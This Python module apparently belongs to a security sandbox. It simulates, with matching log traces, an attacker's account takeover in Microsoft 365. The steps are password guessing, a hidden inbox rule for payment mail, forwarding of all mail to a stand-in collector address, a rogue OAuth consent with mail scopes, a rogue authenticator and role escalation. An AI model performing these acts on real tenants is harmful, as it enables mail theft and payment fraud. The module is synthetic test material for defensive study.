"""What an attacker does in an account, act by act, each with its traces: the parts that the stories share."""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import datetime, timedelta

from sandbox.scenarios import people
from sandbox.scenarios.organization import member
from sandbox.scenarios.people import FOREIGN_BROWSER, LAGOS, MAIL_EXPORT, ROLES, SCRIPT, Person
from sandbox.scenarios.state import Json, graph_time, ident
from sandbox.scenarios.world import World, target

COLLECTOR = "collector@mailbox-relay.example"
IP = LAGOS.ip
PORT = f"{IP}:51422"


def session_of(who: Person) -> str:
    """The id of the session that the attacker keeps in an account."""
    return ident("session", "takeover", who.upn)


def break_in(world: World, when: datetime, who: Person, *, wrong: int = 12) -> None:
    """A run of wrong passwords in the half hour before, then the right one, then the mail."""
    for number in range(wrong):
        attempt = when - timedelta(minutes=2 * (wrong - number))
        world.sign_in(attempt, who, LAGOS, SCRIPT, error=50126, app=people.OFFICE_HOME)
    sign_in(world, when, who, session_of(who))
    sign_in(world, when + timedelta(minutes=3), who, session_of(who), app=people.OUTLOOK_WEB)


def sign_in(
    world: World,
    when: datetime,
    who: Person,
    session: str,
    *,
    app: people.Application = people.OFFICE_HOME,
    error: int = 0,
) -> None:
    """The attacker signs in, or fails to, with a program that the person never used."""
    world.sign_in(when, who, LAGOS, SCRIPT, error=error, app=app, session=session, risk="high")


def hiding_rule(world: World, when: datetime, who: Person, session: str, name: str = "..") -> None:
    """A rule that puts what is about money where no one looks."""
    world.inbox_rule(
        when,
        who,
        name,
        {"bodyOrSubjectContains": ["invoice", "payment", "bank", "wire"]},
        {
            "moveToFolder": world.box(who).folder_id("RSS Subscriptions"),
            "markAsRead": True,
            "stopProcessingRules": True,
        },
        {
            "SubjectOrBodyContainsWords": "invoice;payment;bank;wire",
            "MoveToFolder": "RSS Subscriptions",
            "MarkAsRead": True,
            "StopProcessingRules": True,
        },
        PORT,
        session=session,
    )


def forward(world: World, when: datetime, who: Person, session: str, address: str = COLLECTOR) -> None:
    """All mail goes on to the attacker, and a copy stays."""
    world.admin_cmdlet(
        when,
        "Set-Mailbox",
        who.upn,
        world.object_path(who),
        {
            "Identity": who.upn,
            "ForwardingSmtpAddress": f"smtp:{address}",
            "DeliverToMailboxAndForward": True,
        },
        PORT,
        session=session,
    )
    world.box(who).properties["ForwardingSmtpAddress"] = f"smtp:{address}"
    world.box(who).properties["DeliverToMailboxAndForward"] = True
    world.box(who).properties["WhenChangedUTC"] = graph_time(when)


def consent(world: World, start: datetime, who: Person) -> None:
    """The person is brought to let an application read and send mail for good."""

    def at(minute: float) -> datetime:
        return start + timedelta(minutes=minute)

    state = world.state
    principal = world.service_principal(
        MAIL_EXPORT.app_id,
        MAIL_EXPORT.name,
        at(0),
        owner="7d5f2b1e-0000-4000-8000-00000000bad0",
        replies=["http://localhost:8090/access/"],
    )
    resource = ident("service-principal", people.GRAPH.app_id)
    scope = " Mail.ReadWrite Mail.Send MailboxSettings.ReadWrite Contacts.Read offline_access"
    grant_id = ident("grant", MAIL_EXPORT.app_id, who.upn).replace("-", "")
    state.oauth_grants.append(
        {
            "id": grant_id,
            "clientId": principal["id"],
            "consentType": "Principal",
            "principalId": who.id,
            "resourceId": resource,
            "scope": scope,
        }
    )
    state.app_role_assignments.append(
        {
            "id": ident("app-role", MAIL_EXPORT.app_id, who.upn).replace("-", ""),
            "appRoleId": "00000000-0000-0000-0000-000000000000",
            "principalId": who.id,
            "principalType": "User",
            "principalDisplayName": who.name,
            "resourceId": principal["id"],
            "resourceDisplayName": MAIL_EXPORT.name,
            "createdDateTime": graph_time(at(0)),
            "deletedDateTime": None,
        }
    )
    permissions = (
        f"[] => [[Id: {grant_id}, ClientId: {principal['id']}, PrincipalId: {who.id}, ResourceId: "
        f"{resource}, "
        f"ConsentType: Principal, Scope: {scope}]]; "
    )
    targets = [
        {"ID": f"ServicePrincipal_{principal['id']}", "Type": 2},
        {"ID": principal["id"], "Type": 2},
        {"ID": "ServicePrincipal", "Type": 2},
        {"ID": MAIL_EXPORT.name, "Type": 1},
    ]
    app_target: Json = {
        "id": principal["id"],
        "displayName": MAIL_EXPORT.name,
        "type": "ServicePrincipal",
        "userPrincipalName": None,
        "groupType": None,
        "modifiedProperties": [
            {"displayName": "ConsentContext.IsAdminConsent", "oldValue": None, "newValue": '"False"'},
            {"displayName": "ConsentContext.OnBehalfOfAll", "oldValue": None, "newValue": '"False"'},
            {
                "displayName": "ConsentAction.Permissions",
                "oldValue": None,
                "newValue": json.dumps(permissions),
            },
        ],
    }
    for minute, activity in ((0.0, "Add service principal"), (0.1, "Add delegated permission grant")):
        world.directory_audit(
            at(minute),
            activity,
            who,
            [app_target],
            category="ApplicationManagement",
            ip=IP,
            operation="Add",
        )
        world.entra(at(minute), activity + ".", who, MAIL_EXPORT.app_id, [], IP, targets=targets)
    world.entra(
        at(0.2), "Add app role assignment grant to user.", who, MAIL_EXPORT.app_id, [], IP, targets=targets
    )
    world.directory_audit(
        at(0.3),
        "Consent to application",
        who,
        [app_target],
        category="ApplicationManagement",
        ip=IP,
        agent=FOREIGN_BROWSER.user_agent,
        operation="Assign",
    )
    world.entra(
        at(0.3),
        "Consent to application.",
        who,
        MAIL_EXPORT.app_id,
        [
            ("ConsentContext.IsAdminConsent", "", "False"),
            ("ConsentContext.OnBehalfOfAll", "", "False"),
            ("ConsentAction.Permissions", "", permissions),
            ("TargetId.ServicePrincipalNames", "", MAIL_EXPORT.app_id),
        ],
        IP,
        targets=targets,
        agent=FOREIGN_BROWSER.user_agent,
    )


def second_factor(world: World, when: datetime, who: Person) -> list[Json]:
    """The attacker's own phone becomes a second factor; gives all methods of the person."""
    methods = world.state.authentication_methods[who.id]
    world.credential_event(when, "User registered security info", None, who, who, IP)
    world.entra(
        when,
        "Update user.",
        who,
        who.upn,
        [
            (
                "StrongAuthenticationPhoneAppDetail",
                "[]",
                json.dumps([{"DeviceName": "Pixel 9", "DeviceTag": "SoftwareTokenActivated"}]),
            )
        ],
        IP,
    )
    methods.append(
        {
            "@odata.type": "#microsoft.graph.microsoftAuthenticatorAuthenticationMethod",
            "id": ident("authenticator", "rogue", who.upn),
            "displayName": "Pixel 9",
            "deviceTag": "SoftwareTokenActivated",
            "phoneAppVersion": "6.2510.1",
            "createdDateTime": graph_time(when),
        }
    )
    return methods


def eligible_role(world: World, who: Person, role: str) -> None:
    """A role that the person has long been allowed to switch on."""
    world.state.role_eligibility_schedules.append(
        {
            "id": ident("eligible", who.upn, role),
            "principalId": who.id,
            "roleDefinitionId": ROLES[role],
            "directoryScopeId": "/",
            "memberType": "Direct",
            "startDateTime": graph_time(world.now - timedelta(days=200)),
            "endDateTime": None,
            "roleEligibilityScheduleId": ident("eligibility", who.upn, role),
        }
    )


def activate_role(world: World, when: datetime, who: Person, role: str) -> None:
    """A role is turned on for three days."""
    state, role_id = world.state, ROLES[role]
    state.role_assignment_schedules.append(
        {
            "id": ident("activated", who.upn, role),
            "principalId": who.id,
            "roleDefinitionId": role_id,
            "directoryScopeId": "/",
            "memberType": "Direct",
            "assignmentType": "Activated",
            "startDateTime": graph_time(when),
            "endDateTime": graph_time(when + timedelta(hours=72)),
            "roleAssignmentScheduleId": ident("activation", who.upn, role),
        }
    )
    state.role_assignments.append(
        {
            "id": ident("role-assignment", "activated", who.upn, role),
            "principalId": who.id,
            "roleDefinitionId": role_id,
            "directoryScopeId": "/",
        }
    )
    role_target: Json = {
        "id": role_id,
        "displayName": role,
        "type": "Role",
        "userPrincipalName": None,
        "groupType": None,
        "modifiedProperties": [],
    }
    change = {
        "displayName": "Role.DisplayName",
        "oldValue": None,
        "newValue": json.dumps(role),
    }
    world.directory_audit(
        when,
        "Add member to role completed (PIM activation)",
        who,
        [role_target, target(who, [])],
        category="RoleManagement",
        ip=IP,
        service="PIM",
        operation="ActivateRole",
    )
    world.directory_audit(
        when + timedelta(seconds=6),
        "Add member to role",
        who,
        [target(who, [change]), role_target],
        category="RoleManagement",
        ip=IP,
        operation="Assign",
    )
    world.entra(
        when + timedelta(seconds=6),
        "Add member to role.",
        who,
        who.upn,
        [
            ("Role.ObjectID", "", role_id),
            ("Role.DisplayName", "", role),
            ("Role.TemplateId", "", role_id),
            ("Role.WellKnownObjectName", "", role.replace(" ", "")),
        ],
        IP,
    )


def join_group(  # noqa: PLR0917  an act reads as when, who, what
    world: World, when: datetime, who: Person, name: str, role: str, others: Sequence[Person] = ()
) -> None:
    """The person joins a group that holds a directory role."""
    state = world.state
    group_id = ident("group", name)
    state.groups[group_id] = {
        "id": group_id,
        "displayName": name,
        "isAssignableToRole": True,
        "securityEnabled": True,
        "mailEnabled": False,
        "groupTypes": [],
        "onPremisesSyncEnabled": None,
        "membershipRule": None,
        "createdDateTime": graph_time(world.now - timedelta(days=300)),
    }
    state.memberships[group_id] = [*(person.id for person in others), who.id]
    state.role_assignments.append(
        {
            "id": ident("role-assignment", "group", group_id),
            "principalId": group_id,
            "roleDefinitionId": ROLES[role],
            "directoryScopeId": "/",
        }
    )
    group_target: Json = {
        "id": group_id,
        "displayName": name,
        "type": "Group",
        "userPrincipalName": None,
        "groupType": "azureAD",
        "modifiedProperties": [],
    }
    member_change = {
        "displayName": "Group.DisplayName",
        "oldValue": None,
        "newValue": json.dumps(name),
    }
    world.directory_audit(
        when,
        "Add member to group",
        who,
        [target(who, [member_change]), group_target],
        category="GroupManagement",
        ip=IP,
        operation="Assign",
    )
    world.entra(when, "Add member to group.", who, who.upn, [("Group.DisplayName", "", name)], IP)


def join_exchange_group(world: World, when: datetime, who: Person, name: str, session: str) -> None:
    """The person joins a role group of Exchange."""
    group = next(item for item in world.state.exchange_role_groups if item["Name"] == name)
    group["Members"].append(member(who))
    parameters = {"Identity": name, "Member": who.upn}
    world.admin_cmdlet(when, "Add-RoleGroupMember", who.upn, name, parameters, PORT, session=session)


def join_purview_group(world: World, when: datetime, who: Person, name: str) -> None:
    """The person joins a role group of Purview."""
    group = next(item for item in world.state.purview_role_groups if item["Name"] == name)
    group["Members"].append(member(who))
    world.audit(
        when,
        "Add-RoleGroupMember",
        18,
        "SecurityComplianceCenter",
        who.upn,
        ResultStatus="Success",
        UserType=2,
        ClientIP=IP,
        ObjectId=name,
        Parameters=f'-Identity "{name}" -Member "{who.upn}"',
        StartTime=graph_time(when),
    )
